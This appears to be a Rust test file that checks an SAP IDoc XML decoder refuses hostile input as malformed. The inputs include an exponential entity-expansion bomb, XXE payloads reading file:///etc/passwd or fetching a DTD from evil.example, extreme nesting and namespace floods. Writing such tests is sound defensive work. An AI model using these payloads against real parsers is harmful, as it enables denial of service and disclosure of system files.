//! Hostile XML: refused as `malformed` before it costs anything.

use std::fmt::Write as _;

use ontology::System;

use super::{check, decode};

/// Refused as a whole.
fn refused(raw: &[u8]) {
    check(System::Sap, raw, &["malformed"], 0);
}

#[test]
fn xml_entity_bomb() {
    let mut raw = "<?xml version=\"1.0\"?><!DOCTYPE z [<!ENTITY a0 \"ha\">".to_owned();
    for n in 1..30 {
        let before = n - 1;
        write!(raw, "<!ENTITY a{n} \"&a{before};&a{before};&a{before};&a{before};\">").unwrap();
    }
    refused(format!("{raw}]><z>&a29;</z>").as_bytes());
}

#[test]
fn xml_external_entity() {
    refused(b"<?xml version=\"1.0\"?><!DOCTYPE z [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><z>&x;</z>");
    refused(b"<!DOCTYPE z SYSTEM \"http://evil.example/z.dtd\"><z/>");
}

#[test]
fn xml_unknown_entity_without_declaration() {
    refused(b"<z>&nosuch;</z>");
}

#[test]
fn xml_two_hundred_thousand_levels() {
    refused(format!("{}{}", "<a>".repeat(140_000), "</a>".repeat(100_000)).as_bytes());
    refused("<a>".repeat(200_000).as_bytes());
}

#[test]
fn xml_one_hundred_thousand_namespaces() {
    let mut raw = "<z".to_owned();
    for n in 0..40_000 {
        write!(raw, " xmlns:n{n}=\"u:{n}\"").unwrap();
    }
    refused(format!("{raw}/>").as_bytes());
    let spread = "<z xmlns:a=\"u:a\" xmlns:b=\"u:b\"/>".repeat(20_000);
    check(System::Sap, format!("<r>{spread}</r>").as_bytes(), &["no_identity"], 0);
}

#[test]
fn xml_utf16() {
    let text = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Z><IDOC><EDI_DC40><DOCNUM>1</DOCNUM>\
                <SERIAL>20260310150000</SERIAL></EDI_DC40><Z1FLDDSP><DISPID>D-1</DISPID></Z1FLDDSP></IDOC></Z>";
    let little: Vec<u8> = [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    let big: Vec<u8> = [0xfe, 0xff].into_iter().chain(text.encode_utf16().flat_map(u16::to_be_bytes)).collect();
    for raw in [&little, &big] {
        let decoded = decode(System::Sap, raw);
        assert_eq!((decoded.facts.len(), decoded.rejects.len()), (1, 0), "a byte order mark says how it is read");
    }
    refused(&little[2..]);
    refused(&little[..little.len() - 1]);
    refused(&[0xff, 0xfe, 0x00, 0xd8, b'<', 0]);
}

#[test]
fn xml_nul_byte() {
    refused(b"<z><IDOC>\0</IDOC></z>");
    refused(b"<z><IDOC>&#0;</IDOC></z>");
}

#[test]
fn xml_many_elements_are_bounded() {
    refused(format!("<IDOC>{}</IDOC>", "<a/>".repeat(10_001)).as_bytes());
    refused(format!("<z>{}</z>", "<a/>".repeat((1 << 20) / 8)).as_bytes());
}

#[test]
fn xml_unbalanced_or_cut() {
    for raw in
        ["<a><b></a></b>", "<a", "<a>", "<a></b>", "text", "<a/><b/>", "<a b=c/>", "<a b=\"1\" b=\"2\"/>", "</a>", "<>"]
    {
        let decoded = decode(System::Sap, raw.as_bytes());
        assert_eq!((decoded.facts.len(), decoded.rejects.len()), (0, 1), "{raw}");
    }
}

#[test]
fn xml_comments_and_sections_hide_nothing() {
    let serial = "<EDI_DC40><DOCNUM>1</DOCNUM><SERIAL>20260310150000</SERIAL></EDI_DC40>";
    let raw = format!(
        "<Z><IDOC>{serial}<!-- <Z1FLDDSP><DISPID>D-9</DISPID></Z1FLDDSP> --><Z1FLDDSP><DISPID><![CDATA[D-1]]></DISPID>\
         </Z1FLDDSP></IDOC></Z>"
    );
    let decoded = decode(System::Sap, raw.as_bytes());
    assert_eq!(decoded.facts.iter().map(|f| f.record_id.as_str()).collect::<Vec<_>>(), ["D-1"]);
}

#[test]
fn xml_of_another_encoding_is_quarantined_byte_for_byte() {
    let mut raw = b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><Z><IDOC><Z1FLDDSP><A>".to_vec();
    raw.extend([0xe4; 500]);
    raw.extend(b"</A></Z1FLDDSP></IDOC></Z>");
    let decoded = decode(System::Sap, &raw);
    let rejected = connectors::Submission::new(System::Sap, "idoc", decoded, raw.clone().into(), super::AT).rejects;
    assert_eq!(rejected.len(), 1);
    let kept = &rejected[0].raw;
    assert!(raw.windows(kept.len()).any(|part| part == &kept[..]) && kept.ends_with(b"</IDOC>") || *kept == raw);
}
